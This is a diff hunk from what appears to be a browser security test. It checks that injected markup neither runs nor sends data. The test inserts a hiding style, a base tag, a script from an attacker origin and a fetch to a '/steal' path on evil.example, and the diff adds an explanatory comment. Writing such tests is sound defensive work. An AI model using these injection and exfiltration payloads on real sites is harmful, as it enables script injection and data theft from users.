@@ -84,6 +84,7 @@ intruded('markup that got into the page neither runs nor sends anything', async 
         document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>');
         document.body.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
         document.body.append(Object.assign(document.createElement('script'), { src: `${elsewhere}/evil.js` }));
+        // It must fail; that the policy is why, the events tell.
         void fetch(`${elsewhere}/steal`).catch(() => undefined);
     }, 'https://evil.example');
     await expect
